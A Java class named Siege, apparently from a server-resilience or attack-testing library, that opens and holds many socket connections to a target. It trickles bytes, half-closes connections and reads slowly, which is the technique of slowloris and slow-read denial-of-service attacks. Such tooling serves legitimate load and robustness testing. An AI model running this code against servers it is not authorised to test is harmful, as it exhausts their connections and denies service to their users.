package io.github.vertexj.attack;

import java.io.IOException;
import java.net.Socket;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** Many connections that are held open. For one thread. */
final class Siege implements AutoCloseable {
  private static final int STEP_MILLIS = 200;

  private final Target target;
  private final List<Socket> sockets = new ArrayList<>();

  Siege(Target target) {
    this.target = target;
  }

  /** Opens a connection and sends bytes on it. */
  void open(byte[] first) {
    try {
      Socket socket = target.open();
      sockets.add(socket);
      Target.send(socket, first);
    } catch (IOException e) {
      // A server may refuse it.
    }
  }

  /** Ends the sending side of all connections, and leaves the other open. */
  void halfClose() {
    for (Socket socket : sockets) {
      try {
        socket.shutdownOutput();
      } catch (IOException e) {
        // It is closed already.
      }
    }
  }

  /** Holds the connections for so long and sends these bytes on each, again and again. */
  void hold(Duration time, byte[] bytes) throws InterruptedException {
    long end = System.nanoTime() + time.toNanos();
    while (System.nanoTime() < end) {
      for (Socket socket : sockets) {
        try {
          Target.send(socket, bytes);
        } catch (IOException e) {
          // It has been shown the door.
        }
      }
      Thread.sleep(STEP_MILLIS);
    }
  }

  /** Holds the connections for so long and reads a byte of each now and then. */
  void sip(Duration time) throws InterruptedException {
    long end = System.nanoTime() + time.toNanos();
    while (System.nanoTime() < end) {
      for (Socket socket : sockets) {
        try {
          if (socket.getInputStream().available() > 0) {
            int unused = socket.getInputStream().read();
          }
        } catch (IOException e) {
          // It has been shown the door.
        }
      }
      Thread.sleep(STEP_MILLIS);
    }
  }

  @Override
  public void close() {
    for (Socket socket : sockets) {
      try {
        socket.close();
      } catch (IOException e) {
        // Nothing is expected of it any more.
      }
    }
  }
}
